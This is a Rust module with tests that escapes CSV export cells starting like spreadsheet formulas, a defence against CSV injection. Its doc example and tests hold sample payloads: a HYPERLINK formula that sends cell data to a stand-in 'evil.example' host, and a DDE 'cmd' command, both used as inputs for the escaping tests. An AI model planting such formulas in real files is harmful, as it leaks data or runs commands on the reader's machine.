//! Exports to spreadsheets (SPEC §6): no cell of a CSV export may start like a formula.
//!
//! Spreadsheet programs run a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab
//! or line break before one) as a formula, so a visitor who controls a text that reaches an
//! export (the user agent of a failed sign-in, a username, a detail) could make the
//! administrator who opens it run `=HYPERLINK(…)` or a DDE command (OWASP "CSV Injection").
//! Every cell of every export goes through [`spreadsheet_safe`], which prefixes such a cell
//! with `'`: the program then shows the text as it was, and a reader sees the quote.

use std::borrow::Cow;

/// The characters that make a spreadsheet program read a cell as a formula when the cell
/// starts with one: OWASP's `=`, `+`, `-`, `@`, tab and carriage return, a line feed (which
/// some programs skip like a carriage return), and the full-width forms of the first four
/// (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some programs fold into the ASCII ones.
pub const FORMULA_TRIGGERS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// What a cell is prefixed with when it starts like a formula.
pub const ESCAPE: char = '\'';

/// Whether a spreadsheet program could read `cell` as a formula: it starts with one of the
/// [`FORMULA_TRIGGERS`].
pub fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA_TRIGGERS)
}

/// `cell` as it may be written to a CSV export: unchanged (borrowed) when it cannot start a
/// formula, else with a leading `'` ([`ESCAPE`]). The text itself is never altered or cut, so
/// the quote is the only difference a reader sees.
///
/// ```
/// use auto_logout::export::spreadsheet_safe;
/// assert_eq!(spreadsheet_safe("=HYPERLINK(\"http://evil.example\")"), "'=HYPERLINK(\"http://evil.example\")");
/// assert_eq!(spreadsheet_safe("-2+3"), "'-2+3");
/// assert_eq!(spreadsheet_safe("Mozilla/5.0"), "Mozilla/5.0");
/// ```
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if starts_like_formula(cell) {
        let mut escaped = String::with_capacity(cell.len() + 1);
        escaped.push(ESCAPE);
        escaped.push_str(cell);
        Cow::Owned(escaped)
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn every_formula_start_is_escaped() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u{FF1D}1+1",
            "\u{FF0B}1",
            "\u{FF0D}1",
            "\u{FF20}SUM(1)",
        ] {
            let safe = spreadsheet_safe(cell);
            assert_eq!(safe, format!("'{cell}"), "{cell:?}");
            assert!(matches!(safe, Cow::Owned(_)));
        }
    }

    #[test]
    fn ordinary_text_is_kept_as_it_is() {
        for cell in [
            "",
            "alice",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "2026-12-03T10:00:00Z",
            "42",
            " =not at the start",
            "a=b",
            "'already quoted",
        ] {
            let safe = spreadsheet_safe(cell);
            assert_eq!(safe, cell);
            assert!(matches!(safe, Cow::Borrowed(_)), "no copy for {cell:?}");
        }
    }

    proptest! {
        #[test]
        fn no_output_starts_like_a_formula(cell in any::<String>()) {
            prop_assert!(!starts_like_formula(&spreadsheet_safe(&cell)));
        }

        #[test]
        fn the_text_is_kept_after_at_most_one_quote(cell in any::<String>()) {
            let safe = spreadsheet_safe(&cell);
            let rest = if starts_like_formula(&cell) {
                safe.strip_prefix(ESCAPE).expect("a leading quote")
            } else {
                &safe[..]
            };
            prop_assert_eq!(rest, cell.as_str());
        }

        #[test]
        fn formula_starts_always_get_a_quote(
            first in proptest::sample::select(FORMULA_TRIGGERS.to_vec()),
            rest in any::<String>(),
        ) {
            let cell = format!("{first}{rest}");
            prop_assert_eq!(spreadsheet_safe(&cell), format!("'{cell}"));
        }
    }
}
